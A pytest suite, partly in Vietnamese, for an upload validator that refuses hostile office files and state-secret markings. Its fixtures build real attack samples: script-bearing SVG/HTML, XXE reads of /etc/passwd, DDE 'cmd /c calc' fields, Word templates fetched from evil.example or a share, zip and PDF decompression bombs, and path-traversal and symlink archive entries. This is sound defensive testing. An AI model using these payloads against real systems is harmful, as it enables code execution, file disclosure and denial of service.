"""Tệp xấu bị từ chối: the rows of the bad-input catalogue that reach the upload, each by its reason, each leaving nothing."""

from __future__ import annotations

import io
import resource
import time
import zipfile

import pytest

from tests.unit.storage import files
from tests.unit.storage.conftest import Refuse

HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
SVG_FOREIGN = (
    b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="//x"/></foreignObject></svg>'
)
SVG_ENTITY = b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
GIF_JS = b"GIF89a/*" + bytes(10) + b"*/=1;alert(1)"
CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def test_b1_an_empty_file(refuse: Refuse):
    refused = refuse(b"", "cv.pdf")
    assert (refused.code, refused.status) == ("empty", 422)
    assert refused.sentence.startswith("Tệp rỗng")


class _Endless:
    """A body without length that never ends."""

    def __init__(self) -> None:
        self.read_bytes = 0

    def read(self, size: int = -1, /) -> bytes:
        self.read_bytes += size
        return bytes(size)


def test_b2_one_byte_over_the_limit(refuse: Refuse, send):
    data = files.letter()
    assert refuse(data, "cv.pdf", limit=len(data) - 1).status == 413
    assert send(data, "cv.pdf", limit=len(data)).size == len(data)


def test_b2_an_endless_body_is_cut_with_flat_memory(root):
    from app.storage import service
    from app.storage.refusals import TooLarge

    body, before = _Endless(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(TooLarge):
        service.store_upload(body, "cv.pdf", limit=64 * 1024 * 1024)
    assert body.read_bytes <= 66 * 1024 * 1024
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 20 * 1024
    assert not any(p.is_file() for p in root.rglob("*"))


@pytest.mark.parametrize(
    "data",
    [HTML, b"  \n" + HTML, b"\xef\xbb\xbf" + HTML, GIF_JS, SVG, b"MZ\x90\x00", files.picture(), b"ch\xe1"],
)
def test_b4_a_pdf_by_name_only(refuse: Refuse, data: bytes):
    refused = refuse(data, "cv.pdf")
    assert refused.code == "mismatch"
    assert refused.sentence.startswith("Nội dung không đúng loại tệp")


@pytest.mark.parametrize(
    ("data", "name"),
    [(files.sheet(), "a.docx"), (files.letter_docx(), "a.zip"), (files.archive({"a.txt": b"a"}), "a.docx"),
     (files.letter(), "a.png"), (GIF_JS, "a.jpg"), (files.letter(), "a.txt"), (b"%PDF-1.7 khong phai", "a.docx")],
)  # fmt: skip
def test_b4_other_contents_than_the_name_says(refuse: Refuse, data: bytes, name: str):
    assert refuse(data, name).code in ("mismatch", "broken")


@pytest.mark.parametrize("data", [SVG, SVG_FOREIGN, SVG_ENTITY, HTML, SVG.decode().encode("utf-16")])
@pytest.mark.parametrize("name", ["a.svg", "a.txt", "a"])
def test_b5_markup_that_a_browser_would_run(refuse: Refuse, data: bytes, name: str):
    assert refuse(data, name).code == "markup"


@pytest.mark.parametrize(
    ("name", "code"),
    [("a.exe", "program"), ("a.js", "program"), ("a.html", "markup"), ("a.doc", "old_office"), ("a.docm", "macro"),
     ("a.rar", "other_archive"), ("a.heic", "other_image"), ("a.xyz", "wrong_kind")],
)  # fmt: skip
def test_endings_the_office_never_takes(refuse: Refuse, name: str, code: str):
    assert refuse(files.letter(), name).code == code


def test_old_word_files_are_told_what_to_do(refuse: Refuse):
    assert "DOCX" in refuse(CFB, "a").sentence


# B6: what Word would run or fetch

_TYPES = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def _run(*instructions: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instructions)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


HOSTILE_DOCX = {
    "macro by part": (lambda: files.changed_docx(add={"word/vbaProject.bin": b"\x01"}), "macro"),
    "macro by type": (
        lambda: files.changed_docx(
            replace={
                "[Content_Types].xml": (_TYPES, "application/vnd.ms-word.document.macroEnabled.main+xml")
            }
        ),
        "macro",
    ),
    "template from the web": (
        lambda: files.changed_docx(
            add={
                "word/_rels/settings.xml.rels": files.relation(
                    "attachedTemplate", "http://evil.example/x.dotm"
                )
            }
        ),
        "external_template",
    ),
    "template from a share": (
        lambda: files.changed_docx(
            add={
                "word/_rels/settings.xml.rels": files.relation("attachedTemplate", "\\\\10.0.0.9\\s\\x.dotm")
            }
        ),
        "external_template",
    ),
    "template from a share by file address": (
        lambda: files.changed_docx(
            add={"word/_rels/settings.xml.rels": files.relation("attachedTemplate", "file://10.0.0.9/x.dotm")}
        ),
        "external_template",
    ),
    "frame from the web": (
        lambda: files.changed_docx(
            add={"word/_rels/webSettings.xml.rels": files.relation("frame", "https://evil.example")}
        ),
        "external_template",
    ),
    "OLE by part": (lambda: files.changed_docx(add={"word/embeddings/oleObject1.bin": CFB}), "ole"),
    "OLE linked": (
        lambda: files.changed_docx(
            add={"word/_rels/x.xml.rels": files.relation("oleObject", "file:///C:/x.xls")}
        ),
        "ole",
    ),
    "ActiveX": (lambda: files.changed_docx(add={"word/activeX/activeX1.xml": "<a/>"}), "active_content"),
    "another file inside": (
        lambda: files.changed_docx(
            add={"word/_rels/x.xml.rels": files.relation("aFChunk", "/word/a.mht", external=False)}
        ),
        "alt_chunk",
    ),
    "DDE": (lambda: files.changed_docx(body=_run(' DDE "cmd" "/c calc"')), "dde"),
    "DDE in pieces": (lambda: files.changed_docx(body=_run(" DD", "EAU", 'TO c:\\\\x "y"')), "dde"),
    "DDE simple": (lambda: files.changed_docx(body='<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>'), "dde"),
    "DDE spelled in numbers": (
        lambda: files.changed_docx(body=_run(" QUOTE 68 68 69 65 85 84 79 32 ")),
        "dde",
    ),
    "DDE in a header": (
        lambda: files.changed_docx(
            add={"word/header9.xml": f'<w:hdr xmlns:w="{files.W}">{_run("ddeauto x y")}</w:hdr>'}
        ),
        "dde",
    ),
    "document type": (
        lambda: files.changed_docx(
            replace={
                "word/document.xml": (
                    "<w:document",
                    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document',
                )
            }
        ),
        "broken",
    ),
    "billion laughs": (
        lambda: files.changed_docx(
            replace={
                "word/document.xml": (
                    "<w:document",
                    '<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><w:document',
                )
            }
        ),
        "broken",
    ),
    "embedded program": (lambda: files.changed_docx(add={"word/media/x.exe": b"MZ"}), "active_content"),
    "embedded sheet with macro": (
        lambda: files.changed_docx(
            add={
                "word/embeddings/s.xlsx": files.archive(
                    {"[Content_Types].xml": b"<Types/>", "xl/vbaProject.bin": b"1"}
                )
            }
        ),
        "ole",  # it only calls itself a sheet
    ),
}


@pytest.mark.parametrize("case", HOSTILE_DOCX)
def test_b6_a_word_file_that_runs_or_fetches(refuse: Refuse, case: str):
    make, code = HOSTILE_DOCX[case]
    refused = refuse(make(), "cv.docx")
    assert refused.code == code


def test_b6_a_sheet_with_macro_embedded_in_a_letter(refuse: Refuse):
    bad = files.changed_docx(base=files.sheet(), add={"xl/vbaProject.bin": b"1"})
    assert refuse(files.changed_docx(add={"word/embeddings/s.xlsx": bad}), "cv.docx").code == "macro"


def test_b6_a_sheet_that_links_by_dde(refuse: Refuse):
    link = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>'
    assert (
        refuse(
            files.changed_docx(base=files.sheet(), add={"xl/externalLinks/externalLink1.xml": link}), "a.xlsx"
        ).code
        == "dde"
    )


# B7, B8: archives


def _overlapping() -> bytes:
    """Many entries over one packed kernel: 42 KB that would unpack to gigabytes."""
    kernel = files.zeros(8 * 1024 * 1024)
    out = bytearray(files.bare_zip([(b"a", kernel, 8 * 1024 * 1024, 0)]))
    end = out.rfind(b"PK\x05\x06")
    start = out.rfind(b"PK\x01\x02")
    entry = bytes(out[start:end])
    table = b"".join(entry.replace(b"a", bytes([97 + n % 26]), 1) if n else entry for n in range(26))
    import struct

    return (
        bytes(out[:start])
        + table
        + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 26, 26, len(table), start, 0)
    )


def _lying_count(entries: int) -> bytes:
    data = bytearray(files.archive({f"{n}.txt": b"" for n in range(entries)}, packed=False))
    end = data.rfind(b"PK\x05\x06")
    data[end + 8 : end + 12] = b"\x01\x00\x01\x00"
    return bytes(data)


def _nested(levels: int) -> bytes:
    data = files.archive({"a.txt": b"a"})
    for _ in range(levels):
        data = files.archive({"a.zip": data})
    return data


BOMBS = {
    "ratio": (lambda: files.bare_zip([(b"a.txt", files.zeros(64 * 1024 * 1024)[2:-4], 64 * 1024 * 1024, 0)]), {"bomb"}),
    "lying size": (lambda: files.bare_zip([(b"a.txt", files.zeros(64 * 1024 * 1024)[2:-4], 1000, 0)]), {"broken"}),
    "overlap": (_overlapping, {"bomb", "inconsistent"}),
    "16 levels": (lambda: _nested(16), {"nested"}),
    "3 levels": (lambda: _nested(2), {"nested"}),
    "20 000 entries": (lambda: files.archive({f"{n}.txt": b"" for n in range(20_000)}, packed=False), {"too_many_entries"}),
    "20 000 entries, 1 said": (lambda: _lying_count(20_000), {"broken"}),
    "1 000 000 entries said": (
        lambda: files.archive({"a.txt": b"a"}).replace(b"PK\x05\x06\x00\x00\x00\x00\x01\x00\x01\x00", b"PK\x05\x06\x00\x00\x00\x00\xff\xff\xff\xff"),
        {"too_many_entries"},
    ),
    "no entries": (lambda: files.archive({}), {"empty"}),
    "cut off": (lambda: files.archive({"a.txt": b"a" * 5_000}, packed=False)[:3_000], {"broken"}),
}  # fmt: skip


@pytest.mark.parametrize("case", BOMBS)
def test_b7_archive_bombs_quickly(refuse: Refuse, case: str):
    make, codes = BOMBS[case]
    data, started = make(), time.perf_counter()
    assert refuse(data, "a.zip").code in codes
    assert time.perf_counter() - started < 2


def test_b7_a_word_bomb(refuse: Refuse):
    """One part of 256 MB inside a small DOCX."""
    out = io.BytesIO(files.letter_docx())
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as target,
        target.open("word/footnotes.xml", "w") as part,
    ):
        for _ in range(256):
            part.write(b" " * 1024 * 1024)
    assert refuse(out.getvalue(), "cv.docx").code == "bomb"


@pytest.mark.parametrize(
    "name",
    [
        b"../../x",
        b"/etc/passwd",
        b"C:\\x",
        b"C:/x",
        b"..\\..\\x",
        b"a/../../x",
        b"\\\\server\\x",
        b"a\\..\\b",
    ],
)
def test_b8_names_that_climb_out(refuse: Refuse, name: bytes):
    assert refuse(files.bare_zip([(name, b"a", 1, 0)], method=0), "a.zip").code == "bad_entry_name"


@pytest.mark.parametrize("mode", [0o120777, 0o020666, 0o010666])
def test_b8_links_and_devices(refuse: Refuse, mode: int):
    assert (
        refuse(files.bare_zip([(b"a", b"/etc/passwd", 11, mode << 16)], method=0), "a.zip").code == "symlink"
    )


def test_b9_names_that_differ_in_the_two_places(refuse: Refuse):
    data = files.bare_zip([(b"aaa.txt", b"a", 1, 0)], method=0)
    assert refuse(data.replace(b"aaa.txt", b"bbb.txt", 1), "a.zip").code == "inconsistent"


def test_b9_the_same_name_twice(refuse: Refuse):
    assert (
        refuse(files.bare_zip([(b"a.txt", b"a", 1, 0), (b"a.txt", b"b", 1, 0)], method=0), "a.zip").code
        == "inconsistent"
    )


@pytest.mark.parametrize(
    ("name", "data"),
    [("a/tool.exe", b"x"), ("run.js", b"x"), ("innocent.dat", b"MZ\x90\x00\x03"), ("x.docm", b"x")],
)
def test_programs_inside_an_archive(refuse: Refuse, name: str, data: bytes):
    refused = refuse(files.archive({"a.pdf": files.letter(), name: data}), "a.zip")
    assert refused.code == "program_inside"
    assert name in refused.sentence


def test_a_member_too_large_to_look_at(refuse: Refuse):
    data = files.archive({"dữ liệu.txt": b"a" * (101 * 1024 * 1024)}, packed=False)
    refused = refuse(data, "a.zip", limit=200 * 1024 * 1024)
    assert refused.code == "member_too_large"
    assert "dữ liệu.txt" in refused.sentence


# B10 – B12: PDF

BROKEN_PDF = {
    "page tree loop": lambda: files.raw_pdf(
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>"}
    ),
    "page tree in itself": lambda: files.raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"}),
    "cross-reference loop": lambda: files.letter()[:-200] + b"xref\n0 0\ntrailer\n<< /Prev 9 /Root 1 0 R /Size 9 >>\nstartxref\n9\n%%EOF",
    "no pages": lambda: files.raw_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"}),
    "cut in half": lambda: files.letter()[:8_000],
    "only a head": lambda: b"%PDF-1.7\n%%EOF",
    "html behind": lambda: files.letter() + b"\n<html>" + b"x" * 9_000,
}  # fmt: skip


@pytest.mark.parametrize("case", BROKEN_PDF)
def test_b10_broken_pdf(refuse: Refuse, case: str):
    started = time.perf_counter()
    assert refuse(BROKEN_PDF[case](), "cv.pdf").code in ("broken", "time", "crash")
    assert time.perf_counter() - started < 10


def test_b10_a_negative_length_is_survived(send):
    """PDFium finds the end of the stream by itself."""
    assert send(files.page_of(b"<< /Length -1 >>\nstream\nBT ET\nendstream"), "cv.pdf").page_count == 1


def test_b11_a_stream_packed_twice(refuse: Refuse):
    """A few KB that unpack to 512 MB."""
    import zlib

    data = zlib.compress(files.zeros(512 * 1024 * 1024), 9)
    bomb = files.page_of(files.stream(b"/Filter [/FlateDecode /FlateDecode]", data))
    assert len(bomb) < 10 * 1024
    assert refuse(bomb, "cv.pdf").code == "bomb"


def test_b11_a_stream_packed_once(refuse: Refuse):
    bomb = files.page_of(files.stream(b"/Filter /FlateDecode", files.zeros(300 * 1024 * 1024)))
    assert refuse(bomb, "cv.pdf").code == "bomb"


def test_b11_a_name_in_hexadecimal_hides_nothing(refuse: Refuse):
    bomb = files.page_of(files.stream(b"/Filter /Fl#61teDecode", files.zeros(300 * 1024 * 1024)))
    assert refuse(bomb, "cv.pdf").code == "bomb"


def test_b11_a_picture_of_2_500_megapixels(refuse: Refuse):
    image = files.stream(
        b"/Type /XObject /Subtype /Image /Width 50000 /Height 50000 /ColorSpace /DeviceGray /BitsPerComponent 8",
        b"x",
    )
    data = files.page_of(
        files.stream(b"", b"q 1 0 0 1 0 0 cm /I Do Q"),
        more=b"/Resources << /XObject << /I 5 0 R >> >>",
        objects={5: image},
    )
    assert refuse(data, "cv.pdf").code == "pixels"


def _tall_png() -> bytes:
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">2L5B", 50_000, 50_000, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"x")) + chunk(b"IEND", b"")


def test_b11_a_pixel_bomb(refuse: Refuse):
    assert refuse(_tall_png(), "a.png").code == "pixels"


def test_a_cut_picture(refuse: Refuse):
    assert refuse(files.picture("PNG", (900, 900))[:400], "a.png").code == "broken"
    assert refuse(files.picture("JPEG", (900, 900))[:700], "a.jpg").code == "broken"


def test_b12_a_pdf_with_password(refuse: Refuse):
    refused = refuse(files.locked_pdf(), "cv.pdf")
    assert refused.code == "password"
    assert refused.sentence.startswith("Tệp có mật khẩu")


def test_b12_a_word_file_with_password(refuse: Refuse):
    data = (
        CFB
        + "EncryptionInfo".encode("utf-16-le")
        + bytes(50)
        + "EncryptedPackage".encode("utf-16-le")
        + bytes(400)
    )
    assert refuse(data, "cv.docx").code == "password"


def test_b12_a_locked_pdf_inside_an_archive(refuse: Refuse):
    assert refuse(files.archive({"a.pdf": files.locked_pdf()}), "a.zip").code == "password"


def test_text_in_an_old_encoding(refuse: Refuse):
    refused = refuse("Ủy ban".encode() + b"\xd0\xf2", "a.txt")
    assert refused.code == "encoding"
    assert "UTF-8" in refused.sentence


# state secrets at the upload door

SECRET = {
    "pdf under the number": (lambda: files.letter(under_number="*MẬT*"), "cv.pdf"),
    "pdf spaced": (lambda: files.letter(under_number='#text(tracking: 14pt)[MẬT]'), "cv.pdf"),
    "pdf decomposed": (lambda: files.letter(under_number="TUYE\u0323\u0302T MA\u0323\u0302T"), "cv.pdf"),
    "pdf turned stamp": (lambda: files.letter(under_number='#rotate(30deg)[*TỐI MẬT*]'), "cv.pdf"),
    "docx line": (lambda: files.letter_docx(["UBND", "Số: 1/UBND", "TUYỆT MẬT", "Kính gửi"]), "cv.docx"),
    "docx cell": (lambda: files.table_docx("Số: 1/UBND\nMẬT", "CỘNG HÒA"), "cv.docx"),
    "docx text box": (
        lambda: files.changed_docx(body="<w:p><w:r><w:t>UBND</w:t></w:r><w:r><w:pict><w:txbxContent><w:p><w:r><w:t>MẬT</w:t></w:r></w:p></w:txbxContent></w:pict></w:r></w:p>"),
        "cv.docx",
    ),
    "docx watermark": (
        lambda: files.changed_docx(add={"word/header1.xml": f'<w:hdr xmlns:w="{files.W}" xmlns:v="urn:schemas-microsoft-com:vml"><w:p><w:r><w:pict><v:shape><v:textpath string="TỐI MẬT"/></v:shape></w:pict></w:r></w:p></w:hdr>'}),
        "cv.docx",
    ),
    "xlsx cell": (lambda: files.sheet([["BIỂU SỐ 1", "MẬT"]]), "a.xlsx"),
    "text": ("UBND TỈNH\nMẬT\nKính gửi".encode, "a.txt"),
    "name": (files.letter, "[MẬT] Kế hoạch.pdf"),
    "inside an archive": (lambda: files.archive({"x/cv.pdf": files.letter(under_number="*MẬT*")}), "a.zip"),
    "name inside an archive": (lambda: files.archive({"TUYỆT MẬT.pdf": files.letter()}), "a.zip"),
}  # fmt: skip


@pytest.mark.parametrize("case", SECRET)
def test_a_state_secret_is_refused_with_the_lawful_channel_named(refuse: Refuse, case: str):
    make, name = SECRET[case]
    refused = refuse(make(), name)
    assert refused.code == "secret"
    assert "đường giấy" in refused.sentence


@pytest.mark.parametrize(
    "title",
    ["V/v bảo mật thông tin", "V/v mật độ dân cư", "*Về Luật Bảo vệ bí mật nhà nước*", "*GIẢI MẬT TÀI LIỆU*"],
)
def test_ordinary_words_with_the_syllable_pass(send, title: str):
    assert send(files.letter(under_number=title), "Quy chế bảo mật.pdf").page_count == 2


def test_the_bytes_of_a_secret_are_overwritten(root, monkeypatch: pytest.MonkeyPatch):
    from app.storage import service
    from app.storage.backends import Disk
    from app.storage.refusals import FileRefused

    last: list[bytes] = []

    class Watching(Disk):
        def remove(self, path):
            last.append(path.read_bytes())
            super().remove(path)

    monkeypatch.setattr(service.storage().blobs, "disk", Watching())
    data = files.letter(under_number="*MẬT*")
    with pytest.raises(FileRefused):
        service.store_upload(io.BytesIO(data), "cv.pdf")
    assert last == [bytes(len(data))]
